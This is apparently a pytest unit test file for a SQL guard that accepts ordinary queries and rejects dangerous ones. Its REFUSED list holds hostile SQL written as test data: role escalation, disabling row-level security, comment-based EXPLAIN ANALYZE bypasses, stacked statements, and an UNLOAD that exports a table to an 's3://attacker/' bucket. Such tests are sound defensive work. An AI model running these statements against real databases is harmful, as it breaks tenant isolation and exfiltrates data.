import pytest

from spectra.errors import InvalidRequest, PayloadTooLarge, SqlRejected
from spectra.sql_guard import check_sql

pytestmark = pytest.mark.unit

ALLOWED = [
    "select 1",
    "SELECT * FROM sales WHERE region = :region",
    "with a as (select 1 as x) select x from a union all select 2",
    "insert into t (a) values (1)",
    "update t set a = 2 where b = 3",
    "delete from t where a = 1",
    "CREATE TEMP TABLE scratch AS SELECT 1 AS x",
    "create view v as select 1",
    "drop table scratch",
    "select pg_sleep(1)",
    "explain select * from t",
    "explain verbose select * from t",
    "explain /* plan only */ select * from t",
    "select set_config('search_path', 'public', false)",
    "select 1;",
]

REFUSED = [
    "SET ROLE admin",
    "set role = 'admin'",
    "SET SESSION AUTHORIZATION 'awsuser'",
    "SET session_authorization = 'awsuser'",
    "RESET ROLE",
    "select set_config('role', 'awsuser', false)",
    "GRANT SELECT ON sales TO other_tenant",
    "REVOKE ALL ON sales FROM PUBLIC",
    "CREATE USER mallory PASSWORD 'Secret123'",
    "ALTER USER tenant_a CREATEUSER",
    "DROP USER tenant_b",
    "CREATE ROLE r",
    "CREATE GROUP g",
    "ALTER GROUP g ADD USER mallory",
    "ALTER TABLE sales DISABLE ROW LEVEL SECURITY",
    "ALTER TABLE sales ROW LEVEL SECURITY OFF",
    "CREATE RLS POLICY p WITH (tenant varchar) USING (true)",
    "ATTACH RLS POLICY p ON sales TO mallory",
    "CREATE POLICY p ON sales USING (true)",
    "ALTER TABLE sales OWNER TO mallory",
    "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO mallory",
    "COPY sales FROM 's3://bucket/key' IAM_ROLE 'arn:aws:iam::1:role/r'",
    "UNLOAD ('select * from sales') TO 's3://attacker/'",
    "create function f() returns int as 'select 1' language sql",
    "select 1; select 2",
    "select * from t; SET ROLE admin",
    "selec 1 frm t",
    "EXPLAIN ANALYZE SELECT set_config('role', 'tenant_other', false)",
    "explain analyse delete from sales",
    "explain (analyze) select 1",
    "explain verbose select set_config('role', 'x', false)",
    "EXPLAIN GRANT SELECT ON t TO bob",
    "EXPLAIN /**/ ANALYZE VALUES (pg_sleep(100))",
    "EXPLAIN /* c */ ANALYZE SELECT 1",
    "EXPLAIN -- c\nANALYZE TABLE t",
    "EXPLAIN ANALYZE_X SELECT 1",
    "EXPLAIN",
    "select 'unterminated",
    "select 1 /* unterminated comment",
    "select $$unterminated",
]


@pytest.mark.parametrize("sql", ALLOWED)
def test_allowed(sql):
    assert check_sql(sql, max_bytes=10_000) == sql.strip()


@pytest.mark.parametrize("sql", REFUSED)
def test_refused(sql):
    with pytest.raises(SqlRejected) as error:
        check_sql(sql, max_bytes=10_000)
    assert error.value.message


@pytest.mark.parametrize("sql", ["", "   ", ";", " ; ; "])
def test_empty(sql):
    with pytest.raises(InvalidRequest, match="empty"):
        check_sql(sql, max_bytes=10_000)


def test_oversized_is_413_with_the_limit():
    with pytest.raises(PayloadTooLarge) as error:
        check_sql("select '" + "x" * 200 + "'", max_bytes=100)
    assert error.value.details == {"limit": 100}
    assert error.value.status == 413
